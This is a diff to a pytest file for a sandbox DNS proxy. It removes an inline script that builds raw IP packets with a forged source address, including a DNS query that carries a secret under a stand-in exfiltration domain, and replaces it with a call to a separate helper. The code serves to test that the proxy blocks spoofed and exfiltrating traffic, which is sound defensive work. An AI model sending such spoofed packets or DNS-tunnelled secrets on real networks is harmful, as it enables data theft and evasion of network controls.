@@ -1,4 +1,4 @@
-"""sluice-proxy's DNS service in the test world (SPEC P6; issue 6).
+"""sluice-proxy's DNS service in the test world (docs/design.md, P6; issue 6).
 
 Every DNS query the sandbox sends, to any address, reaches the proxy (netsetup
 DNATs port 53 to it). Names the policy allows are resolved upstream (the
@@ -12,7 +12,7 @@ import uuid
 
 import pytest
 
-from testworld import ADDR, PYTHON, open_path_to, wait_for
+from testworld import ADDR, HERE, PYTHON, open_path_to, wait_for
 from test_netsetup import Netsetup
 
 POLICY = """\
@@ -233,47 +233,13 @@ def test_subdomain_of_an_exact_rule_and_axfr(env):
     assert "Transfer failed" in axfr.stdout or "NOTIMP" in axfr.stdout, axfr.stdout
 
 
-# A raw IP packet from the sandbox with another host's address as its source:
-# UDP (a DNS query) or TCP (a SYN), to DST:PORT, three times. The payload of
-# the DNS query carries SECRET.
-SPOOF_PY = r"""
-import socket, struct, sys, time
-proto, src, dst, port, secret = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), sys.argv[5]
-v6 = ":" in src
-def csum(b):
-    if len(b) % 2:
-        b += b"\0"
-    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
-    s = (s >> 16) + (s & 0xffff)
-    return ~(s + (s >> 16)) & 0xffff
-fam = socket.AF_INET6 if v6 else socket.AF_INET
-a, b = socket.inet_pton(fam, src), socket.inet_pton(fam, dst)
-if proto == "udp":
-    qn = b"".join(bytes([len(l)]) + l.encode() for l in (secret + ".exfil.example.test").split("."))
-    body = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + qn + b"\0" + struct.pack("!HH", 1, 1)
-    l4 = struct.pack("!HHHH", 40000, port, 8 + len(body), 0) + body
-    num, off = 17, 6
-else:
-    l4 = struct.pack("!HHIIBBHHH", 40000, port, 1, 0, 5 << 4, 0x02, 65535, 0, 0)
-    num, off = 6, 16
-pseudo = a + b + (struct.pack("!I3xB", len(l4), num) if v6 else struct.pack("!xBH", num, len(l4)))
-c = csum(pseudo + l4)
-l4 = l4[:off] + struct.pack("!H", c) + l4[off + 2:]
-if v6:
-    ip = struct.pack("!IHBB", 0x60000000, len(l4), num, 64) + a + b
-else:
-    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(l4), 1, 0, 64, num, 0) + a + b
-    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
-s = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
-for _ in range(3):
-    s.sendto(ip + l4, (dst, 0))
-    time.sleep(0.1)
-print("sent")
-"""
-
-
-def spoof(world, sb, *args):
-    r = world.run(sb.name, [PYTHON, "-c", SPOOF_PY, *map(str, args)], timeout=10, nsenter=True)
+def spoof(world, sb, proto, src, dst, port, secret):
+    """A raw IP packet from the sandbox with another host's address as its source:
+    a DNS query carrying SECRET (udp), or a SYN (tcp), to DST:PORT (rawpkt.py)."""
+    args = ["udp-dns", src, dst, port, secret] if proto == "udp" else \
+        ["tcp", src, dst, 40000, port, "S"]
+    r = world.run(sb.name, [PYTHON, str(HERE / "rawpkt.py"), *map(str, args)], timeout=10,
+                  nsenter=True)
     assert r.returncode == 0 and "sent" in r.stdout, r.stderr
 
 
